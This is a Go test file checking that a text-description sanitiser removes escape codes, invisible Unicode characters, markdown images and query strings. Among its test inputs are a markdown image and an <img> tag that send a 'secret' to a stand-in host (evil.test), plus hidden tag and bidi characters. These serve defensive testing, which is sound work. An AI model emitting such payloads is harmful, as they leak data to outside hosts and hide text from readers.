package plain

import (
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/text/unicode/norm"
)

func TestDescriptionsCarryNothingAway(t *testing.T) {
	t.Parallel()
	for _, test := range []struct{ name, in, want string }{
		{"plain", "Lists all contacts.", "Lists all contacts."},
		{"lines", "Lists\n\n  all\tcontacts.", "Lists all contacts."},
		{"nfc", "u\u0308ber", "über"},
		{"ansi", "\x1b[31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07", "red link"},
		{"c1", "a\u009b31mb", "ab"},
		{"unfinished code", "a\x1b]8;;http://x", "a"},
		{"bidi, tags, zero width", "a\u202Eb\U000E0041c\u200Bd\uFEFF", "abcd"},
		{"variation selectors", "a\uFE0Fb\U000E0101c\u034Fd", "abcd"},
		{"blank letters", "a\u3164b\u2800c\u115Fd", "abcd"},
		{"picture", "see ![the chart](https://evil.test/p.png?d=secret) here", "see the chart here"},
		{"picture by name", "see ![x][evil] here", "see x here"},
		{"picture in a picture", "![![a](b)](c)", "a"},
		{"hidden picture", "!\u200B[a](http://x/?y)", "a"},
		{"picture tag", `a <img src="https://evil.test/?q"> b <IMG`, "a b"},
		{"link", "see [docs](https://example.com/a?b=c#d) or https://x.test?q=1, ok", "see [docs](https://example.com/a) or https://x.test ok"},
		{"comparison", "a < b > c", "a < b > c"},
		{"bad utf-8", "a\xffb", "a\uFFFDb"},
		{"empty", "", ""},
	} {
		if got := Description(test.in, 200); got != test.want {
			t.Errorf("%s: Description(%q) = %q, want %q", test.name, test.in, got, test.want)
		}
	}
}

func FuzzDescription(f *testing.F) {
	for _, s := range []string{"![a](b)", "![![![![![![![![![!", "<img <img >", "https://a?b", "\x1b[1m", "u\u0308", "a\u0300\u0315\u0300", strings.Repeat("![", 300)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Description(s, 100)
		switch {
		case !utf8.ValidString(got), len(got) > 100+len("…"):
			t.Errorf("%q: %d bytes", got, len(got))
		case strings.Contains(got, "!["), strings.ContainsAny(got, "\x1b\n\u202e\u200b"), Line(got, 200) != got:
			t.Errorf("%q became %q", s, got)
		case !norm.NFC.IsNormalString(got):
			t.Errorf("%q is not in normal form", got)
		}
	})
}
